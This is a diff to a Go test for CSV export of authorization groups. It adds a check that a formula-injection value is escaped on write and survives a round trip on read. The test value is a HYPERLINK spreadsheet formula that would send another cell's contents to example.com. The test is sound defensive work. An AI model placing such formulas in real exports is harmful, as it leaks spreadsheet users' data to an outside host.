@@ -89,6 +89,14 @@ func TestWriteGroups(t *testing.T) {
 	if want := "name,description\nFinance,\"Books, adjusts\"\n#1,\n"; err != nil || out.String() != want {
 		t.Errorf("got %q, %v, want %q", out.String(), err, want)
 	}
+	out.Reset()
+	formula := authz.GroupInfo{Name: "Finance", Description: `=HYPERLINK("https://example.com/?"&B2,"Finance")`}
+	if err := policycsv.WriteGroups(&out, []authz.GroupInfo{formula}); err != nil || strings.Contains(out.String(), ",=") || strings.Contains(out.String(), `,"=`) {
+		t.Errorf("a spreadsheet calculates %q, %v", out.String(), err)
+	}
+	if back, err := policycsv.ReadGroups(&out); err != nil || len(back) != 1 || back[0] != formula {
+		t.Errorf("%q comes back as %q, %v", formula, back, err)
+	}
 	for _, bad := range []authz.GroupInfo{{Name: "finance"}, {Name: ""}, {Name: "a", Description: "a\r"}, {Name: "administrators"}} {
 		out.Reset()
 		err := policycsv.WriteGroups(&out, []authz.GroupInfo{{Name: "Finance"}, bad})
